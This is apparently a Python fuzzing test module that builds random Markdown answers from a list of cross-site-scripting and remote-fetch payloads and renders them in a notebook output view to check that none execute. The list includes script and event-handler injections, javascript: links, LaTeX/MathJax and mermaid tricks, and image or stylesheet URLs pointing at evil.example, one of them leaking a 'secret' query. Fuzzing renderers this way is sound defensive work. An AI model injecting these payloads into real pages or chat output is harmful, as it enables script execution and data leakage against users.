"""Hostile answers: Markdown that tries to run a script or to fetch something, by the thousand."""

from __future__ import annotations

import random
import time
from collections.abc import Iterator

from assist_magic.reply import Reply, Text
from assist_magic.view import open_view

_RUN = "window.harmed=(window.harmed||0)+1"
_PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f'<img src="http://evil.example/x.png" onload="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=http://evil.example/frame></iframe>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>@import 'http://evil.example/b.css'; body{background:url(http://evil.example/c)}</style>",
    "<video autoplay src=http://evil.example/v.mp4></video>",
    "<object data=http://evil.example/o></object>",
    "<form action=http://evil.example/f><button>go</button></form>",
    '<div style="background:url(http://evil.example/d)">x</div>',
    "![a](http://evil.example/leak?q=secret)",
    "![a][ref]\n\n[ref]: http://evil.example/ref.png\n",
    '![a](<http://evil.example/b c> "t")',
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    f"[click](&#106;avascript:{_RUN})",
    f"[click](java\tscript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    "[click](vbscript:x)",
    f"<javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$$\\style{{background:url(http://evil.example/m)}}{{x}} <img src=x onerror={_RUN}>",
    f"$<img src=x onerror={_RUN}>$",
    f"\\(<img src=x onerror={_RUN}>\\)",
    f"\\[\n\n<img src=x onerror={_RUN}>\n\n\\]",
    f'```x" onmouseover="{_RUN}\ncode\n```',
    f"`<img src=x onerror={_RUN}>`",
    f"\\begin{{align}}<img src=x onerror={_RUN}>\\end{{align}}",
    f'http://evil.example/$x" onmouseover="{_RUN}" y="$',
    f'www.evil.example/$$x" onmouseover="{_RUN}" y="$$',
    f'a@evil.example\\(x" onmouseover="{_RUN}" y="\\)',
    f"ftp://evil.example/\\\\(x' onmouseover='{_RUN}' y='\\\\)",
    f'## $x" onmouseover="{_RUN}" y="$',
    f'[http://evil.example/]()$x" onmouseover="{_RUN}" y="$',
    f'[a](http://evil.example/@@0@@ "$x" onmouseover="{_RUN}")',
    f'\\begin{{array}}{{c}}x" onmouseover="{_RUN}" y="\\end{{array}}',
    f"\\unicode{{x3c}}img src=x onerror={_RUN}\\unicode{{x3e}}",
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    "$\\require{html}\\cssId{x}{\\class{jp-Dialog}{y}}$",
    'graph TD\nA@{ img: "http://evil.example/mermaid.png" }',
    "```mermaid\ngraph TD\nA@{ img: \"http://evil.example/mermaid.png\" }\n```",
    "&lt;img src=http://evil.example/e&gt;",
]  # fmt: skip
_GLUE = [
    "", " ", "\n", "\n\n", "`", "``", "```", "```\n", "~~~\n", "$", "$$", "$$\n", "\\(", "\\)",
    "\\[", "\\]", "\\\\(", "\\\\[", "\\", "\\\\", "\\$", "[", "]", "![", "](", ")", "(", "<", ">",
    "<!--", "-->", "<![CDATA[", "<?", "&", "&#", "&lt;", "*", "**", "_", "~~", "# ", "> ", "- ",
    "1. ", "    ", "  \n", "| a | b |\n|---|---|\n| ", " | ", "|\n", "@@0@@", "@@1@@", "{", "}",
    "\\begin{align}", "\\end{align}", "[x]: ", "\n[ref]: http://evil.example/r\n", "\u00a0",
    "\u2028", "\x0b", "\r", "\t", "\x00", "\ue000", "~T", "~D", "<br>", "text", "x_1", "5",
    "</code>", "</pre>", "</span>", "<span>", "<pre>", "'", '"', "=",
]  # fmt: skip


def answers(seed: int, count: int) -> Iterator[str]:
    """`count` hostile answers, the same for the same seed."""
    dice = random.Random(seed)
    for _ in range(count):
        pieces = []
        for _ in range(dice.randint(1, 5)):
            pieces += dice.choices(_GLUE, k=dice.randint(0, 4))
            pieces.append(dice.choice(_PAYLOADS))
        pieces += dice.choices(_GLUE, k=dice.randint(0, 3))
        yield "".join(pieces)


def show(seed: int, count: int, live: bool = False) -> None:
    """Show hostile answers as outputs of this cell, and say when that is done.

    `live` shows them while they grow, too, all at once, which goes through the widget.
    """
    texts = list(answers(seed, count))
    views = [open_view("rich" if live else "static") for _ in texts]
    for quarter in range(1, 4) if live else ():
        for view, text in zip(views, texts, strict=True):
            parts = (Text(text[: quarter * len(text) // 4]),)
            view.show(Reply(run_id="r", status="in_progress", parts=parts))
        time.sleep(0.11)
    for view, text in zip(views, texts, strict=True):
        view.finish(Reply(status="completed", parts=(Text(text),)))
    print(f"shown {seed}")
